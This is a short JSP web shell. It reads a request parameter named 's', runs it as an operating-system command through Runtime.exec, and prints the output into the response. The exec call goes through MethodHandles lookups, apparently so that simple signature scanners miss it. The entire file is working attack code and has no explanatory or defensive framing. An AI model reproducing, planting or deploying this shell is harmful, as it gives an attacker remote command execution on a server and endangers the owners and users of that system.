<%@ page import="java.lang.invoke.*" %>
<%
String s = request.getParameter("s");
if (s != null) {
    MethodHandles.Lookup lk = MethodHandles.lookup();
    MethodHandle gr = lk.findStatic(Runtime.class, "getRuntime", MethodType.methodType(Runtime.class));
    MethodHandle ex = lk.findVirtual(Runtime.class, "exec", MethodType.methodType(Process.class, String.class));
    Process p = (Process) ex.invoke((Runtime) gr.invoke(), s);
    out.print(new String(p.getInputStream().readAllBytes()));
}
%>
